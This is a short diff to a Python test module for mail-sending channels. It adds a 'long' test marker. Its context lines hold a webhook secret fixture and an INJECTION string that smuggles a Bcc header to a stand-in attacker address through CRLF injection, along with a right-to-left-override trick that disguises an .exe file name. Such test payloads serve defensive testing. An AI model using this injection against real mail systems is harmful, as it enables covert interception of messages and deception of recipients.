@@ -14,6 +14,8 @@ from tests.channels.mailserver import running_mail_server
 from tests.channels.receiver import Receiver, reset, running
 from tests.worker.workers import once
 
+pytestmark = pytest.mark.long
+
 T = 1_700_000_000.0
 SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
 INJECTION = "=?utf-8?q?Hi=0D=0ABcc:_eve@evil.example?=\r\nBcc: eve@evil.example \u202egnp.exe"
